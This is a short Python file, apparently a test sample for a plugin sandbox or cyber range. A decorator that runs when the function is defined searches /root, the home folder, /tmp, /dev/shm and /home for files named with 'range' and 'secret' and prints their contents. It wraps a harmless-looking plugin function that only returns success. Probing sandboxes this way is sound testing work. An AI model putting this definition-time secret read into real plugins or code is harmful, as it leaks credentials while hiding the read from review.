"""Attacks in a decorator, when the function is defined, before anything is called."""

import os


def plugin(function):
    print("PRIMITIVE decorator ran for", function.__name__)
    for folder in ("/root", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/home"):
        try:
            for name in os.listdir(folder):
                if "range" in name and "secret" in name:
                    print(open(os.path.join(folder, name)).read())
        except OSError as error:
            print(folder, error)
    return function


@plugin
async def decorator_time(targets: dict) -> dict:
    """Wave."""
    return {"status": "success"}
